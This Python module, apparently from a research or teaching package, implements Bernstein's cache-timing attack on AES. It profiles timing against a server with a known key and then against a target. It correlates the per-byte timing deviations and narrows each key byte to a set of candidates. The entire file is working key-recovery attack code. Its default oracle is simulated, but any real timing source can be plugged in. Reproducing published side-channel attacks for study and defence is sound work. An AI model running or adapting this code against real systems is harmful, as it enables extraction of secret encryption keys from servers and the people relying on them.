"""Bernstein-style cache-timing attack: profile, correlate, select candidates.

Study phase: time many random packets against a server whose key is known
and, for every byte position j and value v, record how far the mean time of
packets with n[j] == v sits above the overall mean.  Attack phase: do the
same against the target.  The first-round table index is n[j] ^ k[j], so
the attack profile is the study profile shifted by k[j] ^ study_key[j];
the shift that lines the two up best reveals the key byte.
"""

import csv
import io
import json
import logging
import math
import warnings
from dataclasses import dataclass, field
from typing import NamedTuple

import numpy as np

from .aes import as_block, expand_key

log = logging.getLogger(__name__)

MIN_PACKET = 16
MAX_PACKET = 800


class AttackError(Exception):
    pass


class TimingSample(NamedTuple):
    packet_first16: bytes
    cycles: int


@dataclass
class TimingProfile:
    mean_dev: np.ndarray  # (16, 256)
    counts: np.ndarray  # (16, 256)
    grand_mean: float

    def to_csv(self) -> str:
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        w.writerow(["position", "value", "mean_dev", "count"])
        for j in range(16):
            for v in range(256):
                w.writerow([j, v, repr(float(self.mean_dev[j, v])), int(self.counts[j, v])])
        return buf.getvalue()

    @classmethod
    def from_csv(cls, text: str) -> "TimingProfile":
        mean_dev = np.zeros((16, 256))
        counts = np.zeros((16, 256), dtype=np.int64)
        for row in csv.DictReader(io.StringIO(text)):
            j, v = int(row["position"]), int(row["value"])
            mean_dev[j, v] = float(row["mean_dev"])
            counts[j, v] = int(row["count"])
        return cls(mean_dev, counts, float("nan"))

    @property
    def is_flat(self) -> bool:
        return not np.any(self.mean_dev)


class ProfileAccumulator:
    """Running per-cell sums so profiles can be built from chunked batches.

    Sums are kept as exact integers, so a constant-time oracle gives
    deviations of exactly zero.
    """

    def __init__(self):
        self.sums = np.zeros((16, 256), dtype=np.int64)
        self.counts = np.zeros((16, 256), dtype=np.int64)
        self.total = 0
        self.n = 0

    def add(self, nonces: np.ndarray, cycles: np.ndarray) -> None:
        nonces = np.asarray(nonces, dtype=np.uint8).reshape(-1, 16)
        cycles = np.asarray(cycles, dtype=np.int64).ravel()
        keep = cycles >= 0  # negative marks a lost packet
        nonces, cycles = nonces[keep], cycles[keep]
        w = cycles.astype(np.float64)  # chunk sums stay far below 2**53: exact
        for j in range(16):
            self.sums[j] += np.rint(np.bincount(nonces[:, j], weights=w, minlength=256)).astype(np.int64)
            self.counts[j] += np.bincount(nonces[:, j], minlength=256)
        self.total += int(cycles.sum())
        self.n += len(cycles)

    def profile(self) -> TimingProfile:
        if self.n == 0:
            raise AttackError("no timing samples")
        if not self.counts.all():
            warnings.warn(f"{int((self.counts == 0).sum())} profile cells have no samples; "
                          "their deviation is set to 0", RuntimeWarning, stacklevel=2)
        grand = self.total / self.n
        with np.errstate(invalid="ignore", divide="ignore"):
            means = self.sums / self.counts
        dev = np.where(self.counts > 0, means - grand, 0.0)
        return TimingProfile(dev, self.counts.copy(), grand)


def build_profile(samples) -> TimingProfile:
    """Profile from an iterable of :class:`TimingSample`."""
    acc = ProfileAccumulator()
    nonces, cycles = [], []
    for s in samples:
        nonces.append(np.frombuffer(bytes(s.packet_first16[:16]), dtype=np.uint8))
        cycles.append(s.cycles)
        if len(cycles) >= 65536:
            acc.add(np.stack(nonces), np.array(cycles))
            nonces, cycles = [], []
    if cycles:
        acc.add(np.stack(nonces), np.array(cycles))
    return acc.profile()


@dataclass
class CorrelationResult:
    scores: np.ndarray  # (16, 256); scores[j, g] for key-byte guess g


_XOR = np.bitwise_xor.outer(np.arange(256), np.arange(256))


def correlate(study: TimingProfile, study_key, attack: TimingProfile) -> CorrelationResult:
    """``score[j, g] = sum_v study[j, v ^ sk[j]] * attack[j, v ^ g]``."""
    sk = as_block(study_key)
    scores = np.empty((16, 256))
    for j in range(16):
        s = study.mean_dev[j, np.arange(256) ^ sk[j]]
        scores[j] = attack.mean_dev[j][_XOR] @ s
    return CorrelationResult(scores)


@dataclass
class KeySpaceEstimate:
    candidates: tuple  # 16 sorted tuples of byte values

    @property
    def sizes(self) -> list:
        return [len(c) for c in self.candidates]

    @property
    def size_log2(self) -> float:
        return float(sum(math.log2(n) for n in self.sizes))

    @property
    def size_decimal(self) -> float:
        return float(math.prod(self.sizes))

    def contains(self, key) -> list:
        key = as_block(key)
        return [key[j] in self.candidates[j] for j in range(16)]

    def summary(self) -> dict:
        return {"sizes": self.sizes, "log2": self.size_log2, "key_space": self.size_decimal}


def candidate_sets(c: CorrelationResult, margin: float = 1.0) -> KeySpaceEstimate:
    """Keep guesses scoring within ``margin`` row standard deviations of the best."""
    if margin < 0:
        raise ValueError("margin must be >= 0")
    cands = []
    for row in c.scores:
        cut = row.max() - margin * row.std()
        cands.append(tuple(int(g) for g in np.flatnonzero(row >= cut)))
    return KeySpaceEstimate(tuple(cands))


# --- running an attack


def make_packets(rng: np.random.Generator, n_blocks: int, packet_len: int) -> np.ndarray:
    """``256 * n_blocks`` random packets.  In every block of 256, each byte
    position runs through a fresh permutation of 0..255, so every profile
    cell gets exactly ``n_blocks`` samples."""
    head = np.argsort(rng.random((n_blocks, 16, 256)), axis=2).astype(np.uint8)
    head = head.transpose(0, 2, 1).reshape(-1, 16)
    tail = rng.integers(0, 256, (len(head), packet_len - 16), dtype=np.uint8)
    return np.concatenate([head, tail], axis=1)


class SimulatedOracle:
    """In-process server: cycles come from :class:`~ctaes.timing_sim.TimingModel`."""

    def __init__(self, key, model):
        self.key = as_block(key)
        self.ks = expand_key(self.key)
        self.model = model

    def with_key(self, key) -> "SimulatedOracle":
        return SimulatedOracle(key, self.model)

    def measure(self, packets: np.ndarray) -> np.ndarray:
        return self.model.cycles_batch(np.asarray(packets)[:, :16], self.ks)


def collect_profile(oracle, rng, packets_per_cell: int, packet_len: int,
                    blocks_per_chunk: int = 64):
    acc = ProfileAccumulator()
    left = packets_per_cell
    lost = 0
    while left:
        nb = min(blocks_per_chunk, left)
        pk = make_packets(rng, nb, packet_len)
        cyc = np.asarray(oracle.measure(pk), dtype=np.int64)
        lost += int((cyc < 0).sum())
        acc.add(pk[:, :16], cyc)
        left -= nb
    return acc.profile(), lost


@dataclass
class AttackReport:
    estimate: KeySpaceEstimate
    study: TimingProfile
    attack: TimingProfile
    correlation: CorrelationResult
    contained: list = None
    lost: int = 0
    extra: dict = field(default_factory=dict)

    def text(self) -> str:
        lines = [f"key space: 2^{self.estimate.size_log2:.2f} = {self.estimate.size_decimal:.4g}"]
        for j, cand in enumerate(self.estimate.candidates):
            flag = ""
            if self.contained is not None:
                flag = "  true byte in set" if self.contained[j] else "  TRUE BYTE MISSING"
            lines.append(f"  n[{j:2d}]: {len(cand):3d} candidates{flag}")
        if self.lost:
            lines.append(f"lost packets: {self.lost}")
        return "\n".join(lines)

    def to_json(self) -> str:
        d = self.estimate.summary()
        d["contained"] = self.contained
        d["lost"] = self.lost
        return json.dumps(d)


def run_attack(oracle, packets_per_cell: int, packet_len: int = MAX_PACKET, margin: float = 1.0,
               true_key=None, study_oracle=None, study_key=bytes(16), seed: int = 0) -> AttackReport:
    """Study against a known key, attack ``oracle``, correlate, select.

    ``study_oracle`` defaults to ``oracle.with_key(study_key)``, i.e. an
    identical server the attacker controls.
    """
    if packets_per_cell < 1:
        raise AttackError("packets_per_cell must be >= 1")
    if not MIN_PACKET <= packet_len <= MAX_PACKET:
        raise AttackError(f"packet_len must be in {MIN_PACKET}..{MAX_PACKET}")
    study_key = as_block(study_key)
    if study_oracle is None:
        study_oracle = oracle.with_key(study_key)
    rng = np.random.default_rng(seed)
    log.info("study phase: %d packets", 256 * packets_per_cell)
    study, lost_s = collect_profile(study_oracle, rng, packets_per_cell, packet_len)
    log.info("attack phase: %d packets", 256 * packets_per_cell)
    attack, lost_a = collect_profile(oracle, rng, packets_per_cell, packet_len)
    corr = correlate(study, study_key, attack)
    est = candidate_sets(corr, margin)
    contained = est.contains(true_key) if true_key is not None else None
    return AttackReport(est, study, attack, corr, contained, lost_s + lost_a)
